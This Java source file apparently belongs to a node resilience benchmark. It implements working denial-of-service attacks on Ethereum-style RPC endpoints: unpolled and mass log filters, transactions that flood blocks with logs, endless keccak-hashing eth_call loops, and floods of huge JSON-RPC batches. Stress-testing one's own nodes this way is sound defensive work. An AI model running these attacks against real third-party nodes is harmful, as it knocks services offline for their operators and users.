package dev.kopi.apps.bench.hostile;

import dev.kopi.adapters.ethclient.EthClient;
import dev.kopi.adapters.rpc.RpcException;
import dev.kopi.adapters.rpc.RpcTransportException;
import dev.kopi.adapters.rpc.client.HttpRpcClient;
import dev.kopi.core.crypto.ecdsa.PrivateKey;
import dev.kopi.core.primitives.Bytes;
import dev.kopi.core.primitives.UInt256;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;

/** Attacks by method calls: filters, logs, endless calls, batches. */
final class CallAttacks {
  private static final Duration PATIENCE = Duration.ofSeconds(60);

  /** 20,100 times LOG0 without data, as init code: about 8.4 million gas. */
  private static final Bytes LOGS =
      // PUSH2 20100; JUMPDEST; PUSH0; PUSH0; LOG0; PUSH1 1; SWAP1; SUB; DUP1; PUSH1 3; JUMPI; STOP
      Bytes.fromHex("0x614e845b5f5fa0600190038060035700");

  private static final long LOGS_GAS = 9_500_000;

  /** Hashes 128 KiB of memory for ever: JUMPDEST; PUSH3 131072; PUSH0; KECCAK256; POP; … */
  private static final String KECCAK_LOOP = "0x5b620200005f20505f56";

  private static final int FILTERS = 1000;
  private static final int LOOPS = 12;
  private static final int BATCHES = 8;
  private static final int CALLS_PER_BATCH = 1000;

  private CallAttacks() {}

  static List<Attack> all() {
    return List.of(
        new Attack(
            "unpolled-filter",
            "a filter on all logs that is never polled, and a block of 20,100 logs on both chains",
            CallAttacks::unpolledFilter),
        new Attack(
            "filters", "1,000 filters on all logs, and blocks full of logs", CallAttacks::filters),
        new Attack("eth-call", "12 eth_call that hash for ever", CallAttacks::endlessCalls),
        new Attack("batches", "8 callers that send huge batches", CallAttacks::batches));
  }

  private static void unpolledFilter(Target target, AttackScope scope) throws InterruptedException {
    for (Target.Chain chain : List.of(target.l1(), target.l2())) {
      chain.rpc().call("eth_newFilter", Target.json("{}"));
      sendLogs(target, chain, Target.rich(3), scope);
    }
    scope.rest();
  }

  private static void sendLogs(
      Target target, Target.Chain chain, PrivateKey key, AttackScope scope) {
    try {
      EthClient eth = chain.eth();
      long nonce = eth.nonce(target.addressOf(key), EthClient.PENDING);
      eth.sendRaw(target.signed(chain, key, nonce, LOGS_GAS, null, UInt256.ZERO, LOGS));
    } catch (RpcException | RpcTransportException e) {
      scope.refused();
    }
  }

  private static void filters(Target target, AttackScope scope) throws InterruptedException {
    for (int i = 0; i < FILTERS && scope.goesOn(); i++) {
      call(target.l2(), scope, "eth_newFilter", "{}");
    }
    while (scope.goesOn()) {
      sendLogs(target, target.l2(), Target.rich(4), scope);
      Thread.sleep(1000);
    }
  }

  private static void call(Target.Chain chain, AttackScope scope, String method, String params) {
    try {
      chain.rpc().call(method, Target.json(params));
    } catch (RpcException | RpcTransportException e) {
      scope.refused();
    }
  }

  private static void endlessCalls(Target target, AttackScope scope) throws InterruptedException {
    String params = "{\"data\":\"" + KECCAK_LOOP + "\",\"gas\":\"0x2faf080\"}";
    for (int i = 0; i < LOOPS; i++) {
      scope.beside(() -> {
        HttpRpcClient rpc = new HttpRpcClient(target.l2().url(), PATIENCE);
        while (scope.goesOn()) {
          try {
            rpc.call("eth_call", Target.json(params), Target.json("\"latest\""));
          } catch (RpcException | RpcTransportException e) {
            scope.refused();
          }
        }
      });
    }
    scope.rest();
  }

  private static void batches(Target target, AttackScope scope) throws InterruptedException {
    StringBuilder batch = new StringBuilder("[");
    for (int i = 0; i < CALLS_PER_BATCH; i++) {
      batch
          .append(i == 0 ? "" : ",")
          .append("{\"jsonrpc\":\"2.0\",\"id\":")
          .append(i)
          .append(",\"method\":\"eth_getBlockByNumber\",\"params\":[\"latest\",true]}");
    }
    byte[] body = batch.append(']').toString().getBytes(StandardCharsets.UTF_8);
    byte[] head = Target.post(target.l2(), "Content-Length: " + body.length + "\r\n");
    for (int i = 0; i < BATCHES; i++) {
      scope.beside(() -> sendAndRead(target, scope, head, body));
    }
    scope.rest();
  }

  private static void sendAndRead(Target target, AttackScope scope, byte[] head, byte[] body) {
    byte[] read = new byte[1 << 16];
    while (scope.goesOn()) {
      try (Socket socket = scope.connect(target.l2().address())) {
        if (scope.write(socket, head) && scope.write(socket, body)) {
          socket.setSoTimeout(2000);
          while (scope.goesOn() && socket.getInputStream().read(read) > 0) {
            Thread.onSpinWait();
          }
        }
      } catch (IOException e) {
        scope.refused();
      }
    }
  }
}
